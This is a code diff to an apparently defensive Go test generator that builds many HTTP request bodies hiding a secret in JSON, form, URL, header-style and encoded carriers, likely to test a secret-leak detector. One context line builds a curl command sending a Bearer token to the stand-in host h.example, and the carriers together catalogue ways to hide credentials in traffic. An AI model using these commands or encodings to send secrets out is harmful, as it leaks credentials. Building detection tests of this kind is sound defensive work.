@@ -119,7 +119,7 @@ var byName = []carrier{
 		return `{"payload":"` + base64.StdEncoding.EncodeToString(Encode("gzip", []byte(`{"`+key+`":`+quoted(secret)+`}`))) + `"}`
 	})},
 	{"base64 in lines in json", body(jsonType, func(key, secret string) string {
-		text := base64.StdEncoding.EncodeToString([]byte(`{"a":"a long enough text","`+key+`":`+quoted(secret)+`}`))
+		text := base64.StdEncoding.EncodeToString([]byte(`{"a":"a long enough text","` + key + `":` + quoted(secret) + `}`))
 		return `{"payload":` + quoted(text[:20]+"\r\n"+text[20:40]+"\r\n"+text[40:]) + `}`
 	})},
 	{"hexadecimal in json", body(jsonType, func(key, secret string) string {
@@ -128,6 +128,11 @@ var byName = []carrier{
 	{"command in json", body(jsonType, func(key, secret string) string {
 		return `{"text":` + quoted(`curl -H 'Authorization: Bearer `+secret+`' https://h.example`) + `}`
 	})},
+	{"flag in list", body(jsonType, format(`{"args":["--KEY",QUOTED]}`))},
+	{"json patch", body(jsonType, format(`[{"op":"add","path":"/data/KEY","value":QUOTED}]`))},
+	{"url of html in json", body(jsonType, format(`{"link":"https://h.example/?a=b&amp;KEY=ESCAPED"}`))},
+	{"url with semicolons in json", body(jsonType, format(`{"link":"https://h.example/?a=b;KEY=ESCAPED"}`))},
+	{"scheme without name", body(jsonType, format(`{"link":"//bot:ESCAPED@h.example/"}`))},
 	{"xml in json", body(jsonType, func(key, secret string) string {
 		return `{"payload":` + quoted("<r><"+key+">"+html.EscapeString(secret)+"</"+key+"></r>") + `}`
 	})},
@@ -141,6 +146,8 @@ var byName = []carrier{
 	{"form", body(formType, format(`a=1&KEY=ESCAPED&b=2`))},
 	{"form nested", body(formType, format(`user%5BKEY%5D=ESCAPED&b=2`))},
 	{"form dotted", body(formType, format(`x.KEY=ESCAPED`))},
+	{"form pair", body(formType, format(`h[0][name]=KEY&h[0][value]=ESCAPED`))},
+	{"form with semicolons", body(formType, format(`a=1;KEY=ESCAPED`))},
 	{"form undeclared", body("", format(`a=1&KEY=ESCAPED`))},
 	{"json in form", func(f *Form, key, secret string) {
 		body(formType, func(_, _ string) string { return "payload=" + url.QueryEscape(`{"`+key+`":`+quoted(secret)+`}`) })(f, key, secret)
@@ -323,11 +330,14 @@ func Forms(seed string) []Form {
 		add(c, encodings[1+i%(len(encodings)-1)], keys[i%len(keys)], i, false)
 	}
 	for j, key := range keys {
-		for _, c := range []int{0, 19, 26, 71, 75, 76} {
-			add(byName[c], "", key, j, false)
+		for _, c := range byName {
+			switch c.name { // every name in each of these
+			case "json", "form", "multipart", "query", "header", "cookie":
+				add(c, "", key, j, false)
+			}
 		}
 		for k := range 3 {
-			add(byName[(j*3+k)%19], encodings[(j+k)%len(encodings)], key, j+k, false)
+			add(byName[(j*3+k)%30], encodings[(j+k)%len(encodings)], key, j+k, false)
 		}
 	}
 	for i, c := range byValue {
